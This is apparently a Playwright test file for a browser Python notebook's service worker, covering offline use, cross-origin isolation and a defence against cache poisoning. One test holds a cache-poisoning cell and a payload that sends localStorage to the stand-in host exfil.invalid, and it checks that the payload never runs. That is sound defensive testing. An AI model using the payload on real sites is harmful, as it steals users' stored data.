// The service worker on a plain static host (no isolation headers): one visit makes the site
// cross-origin isolated (after one reload) and copies it for offline use; with the network cut,
// a reload still opens the lesson, starts Python and runs a cell.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { startHarness } from './harness.mjs';
import { PYTHON_START_TIMEOUT, SEED_LESSON, codeCell, finishedCell, pythonReady, setCode } from './notebook.mjs';

let harness;
before(async () => {
  harness = await startHarness();
});
after(() => harness?.close());

/** Waits until `predicate(arg)`, run in the page, holds (Playwright's waitForFunction takes a promise for true). */
async function until(page, predicate, arg) {
  const deadline = Date.now() + PYTHON_START_TIMEOUT;
  while (!(await page.evaluate(predicate, arg))) {
    if (Date.now() > deadline) throw new Error(`still false after ${PYTHON_START_TIMEOUT} ms: ${predicate}`);
    await page.waitForTimeout(100);
  }
}

/** Opens the seed lesson with service workers allowed and waits until the site is kept offline. */
async function visitOnce() {
  const opened = await harness.open(SEED_LESSON, { serviceWorkers: 'allow' });
  await opened.page.locator('html[data-gradbook-offline="ready"]').waitFor({ timeout: PYTHON_START_TIMEOUT });
  await pythonReady(opened.page);
  opened.problems.length = 0; // the reload into isolation aborts what the first load was fetching
  return opened;
}

test('after one visit the page is cross-origin isolated, so Stop interrupts Python', async () => {
  const { page, problems } = await visitOnce();
  assert.equal(await page.evaluate(() => crossOriginIsolated), true);
  await setCode(page, 0, 'while True:\n    pass');
  await page.keyboard.press('Control+Enter');
  await codeCell(page, 0).and(page.locator('[data-state="running"]')).waitFor();
  await page.getByRole('button', { name: 'Stop' }).click();
  assert.match((await finishedCell(page, 0)).text, /KeyboardInterrupt\n$/);
  assert.deepEqual(problems, []);
  await page.context().close();
});

test('with the network cut, a reload still opens the lesson and runs a cell', async () => {
  const { page } = await visitOnce();
  await page.context().setOffline(true);
  await page.reload();
  await pythonReady(page);
  await setCode(page, 0, 'import torch\nprint(torch.tensor([1.0, 2.0]) * 3)');
  await page.keyboard.press('Control+Enter');
  assert.deepEqual(await finishedCell(page, 0), { state: 'done', prompt: '[1]', text: 'tensor([3., 6.])\n' });
  await page.context().close();
});

test('with the network cut, the course index still searches every lesson', async () => {
  const { page } = await visitOnce();
  await page.context().setOffline(true);
  await page.goto(new URL('./', page.url()).href);
  await page.getByRole('searchbox', { name: 'Search the lessons' }).fill('moons');
  await page.locator('.search-results li').first().waitFor();
  assert.match(await page.locator('.search-status').textContent(), /^\d+ sections? in 1 lesson$/);
  await page.context().close();
});

// A cell may reach JavaScript (`import js`, in the Python worker), and the worker may write the
// site's cache: the attack puts a script under the app bundle's URL there, which, served as it
// is, would run in the site's origin on every later visit.
const PAYLOAD = "alert('poisoned'); new Image().src = 'http://exfil.invalid/?' + encodeURIComponent(JSON.stringify(localStorage));";
const poisonTheAppBundle = `import js
js.eval("""
caches.keys().then(async (names) => {
  for (const name of names) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      if (/\\\\/assets\\\\/app-[^/]*\\\\.js$/.test(request.url)) {
        await cache.put(request, new Response(${JSON.stringify(PAYLOAD)}, { headers: { 'Content-Type': 'text/javascript' } }));
      }
    }
  }
})
""")`;

/** The app bundle's URL, and a watch on the payload: the dialogs it opens and what it sends away. */
async function watchForPayload(page) {
  const appBundle = await page.locator('script[src*="assets/app-"]').evaluate((script) => script.src);
  const seen = { dialogs: [], sentAway: [] };
  page.context().on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    dialog.dismiss();
  });
  page.context().on('request', (request) => {
    const { origin } = new URL(request.url());
    if (origin !== new URL(appBundle).origin) seen.sentAway.push(origin);
  });
  return { appBundle, seen };
}

const cachedText = (page, url) => page.evaluate(async (u) => (await caches.match(u))?.text() ?? null, url);

async function runPoisoningCell(page, appBundle) {
  await setCode(page, 0, poisonTheAppBundle);
  await page.keyboard.press('Control+Enter');
  await finishedCell(page, 0);
  await until(page, async (u) => (await (await caches.match(u))?.text())?.includes('poisoned'), appBundle);
}

test("a cell that poisons the site's cache runs nothing on later visits, online or offline", async () => {
  const { page } = await visitOnce();
  const { appBundle, seen } = await watchForPayload(page);

  await runPoisoningCell(page, appBundle);
  await page.reload();
  assert.deepEqual(seen, { dialogs: [], sentAway: [] });
  await pythonReady(page); // the real bundle, fetched again
  await page.locator('html[data-gradbook-offline="ready"]').waitFor();
  assert.doesNotMatch(await cachedText(page, appBundle), /poisoned/, 'the copy is the real file again');

  await runPoisoningCell(page, appBundle);
  await page.context().setOffline(true);
  await page.reload(); // the altered copy is refused: the page cannot start, and runs nothing
  await page.waitForLoadState('load');
  assert.deepEqual(seen, { dialogs: [], sentAway: [] });
  assert.equal(await cachedText(page, appBundle), null, 'the altered copy is gone');

  await page.context().setOffline(false);
  await page.reload();
  await pythonReady(page);
  assert.deepEqual(seen, { dialogs: [], sentAway: [] });
  await page.context().close();
});
